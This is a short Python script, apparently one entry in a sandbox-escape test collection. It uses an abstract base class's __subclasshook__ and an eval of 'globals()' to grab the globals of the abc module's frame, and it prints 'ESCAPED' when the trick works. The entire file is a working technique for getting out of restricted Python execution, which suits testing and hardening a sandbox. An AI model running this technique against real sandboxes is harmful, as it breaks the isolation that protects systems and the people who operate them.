# technique: issubclass with an ABC calls __subclasshook__ below the frame of abc
# goal: globals
# source: own analysis: the default namespace of globals, below a trusted frame
import abc
import functools
kept = []
peek = functools.partial(dict.fromkeys, map(kept.append, map(eval, ['globals()'])))


class Hook(abc.ABC):
    __subclasshook__ = staticmethod(peek)


try:
    issubclass(int, Hook)
except AssertionError:
    pass
if kept[0]['__name__'] == 'abc':
    print('ESCAPED globals of abc')
